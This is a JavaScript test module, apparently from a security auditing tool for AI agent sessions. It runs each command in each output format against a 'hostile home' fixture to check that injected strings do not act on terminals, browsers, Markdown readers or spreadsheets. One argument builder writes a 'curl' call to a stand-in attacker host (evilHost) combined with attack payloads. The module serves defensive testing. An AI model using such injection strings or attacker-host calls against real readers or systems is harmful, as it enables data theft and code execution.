// Texts that act on whoever reads an output: a terminal, a browser, a reader of Markdown, a spreadsheet.
import { join } from 'node:path';
import { loadSource } from '../../../../build/load-source.mjs';

const { attacks, buildHostileHome, evilHost } = await loadSource('../test/hostile/hostile-home.ts');

const formats = {
  report: ['markdown', 'html', 'json', 'csv', 'ecs', 'ocsf', 'timesketch', 'stix'],
  assess: ['markdown', 'html', 'json'],
  sessions: ['table', 'json', 'ndjson', 'csv', 'ecs', 'ocsf', 'timesketch'],
  scan: ['table', 'json', 'ndjson', 'sarif', 'markdown'],
  git: ['table', 'json', 'ndjson'],
  rollback: ['markdown', 'json', 'sh'],
  mcp: ['table', 'json', 'ndjson'],
  posture: ['table', 'json', 'ndjson'],
  exposure: ['table', 'json', 'ndjson'],
  replay: ['table', 'json', 'settings', 'ndjson'],
  show: ['table', 'json', 'markdown'],
  explain: ['table', 'json', 'ndjson'],
  collect: ['table', 'json'],
};

/** Where an attack of one reader could work: those of terminals and of characters everywhere. */
const readers = {
  markdown: ['markdown'],
  html: ['html', 'markdown'],
  mermaid: ['html', 'markdown'],
  csv: ['csv', 'timesketch'],
};
const everywhere = ['table', 'markdown', 'html', 'json', 'csv', 'sh', 'settings'];

export const stringsKind = {
  name: 'texts that act',
  scenarios: () => [
    {
      name: 'a home in whose every field they stand',
      build: ({ evidence }) => buildHostileHome(evidence),
      attacks: Object.keys(attacks).flatMap((name) =>
        (readers[name.split(':')[0]] ?? everywhere).map((format) => ({ name: `${name}, in ${format}` })),
      ),
      limitMs: 60_000,
      runs: ({ evidence, out }) => {
        const given = ['--home', join(evidence, 'home/kim'), '--root', evidence];
        return Object.entries(formats).flatMap(([command, keys]) =>
          keys.map((format) => [
            command,
            ...argumentsOf(command, { given, evidence, out }),
            '--format',
            format,
          ]),
        );
      },
    },
  ],
};

function argumentsOf(command, { given, evidence }) {
  if (command === 'explain')
    return [`curl https://${evilHost}/ ${Object.values(attacks).join(' ').replaceAll('\0', '')}`];
  if (command === 'show') return ['toolu_0_0', ...given];
  if (command === 'scan') return [join(evidence, 'home/kim'), ...given];
  if (command === 'collect') return ['--dry-run', ...given];
  const toFile = ['report', 'assess', 'rollback'].includes(command) ? ['--output', '-'] : [];
  return [...given, ...toFile];
}
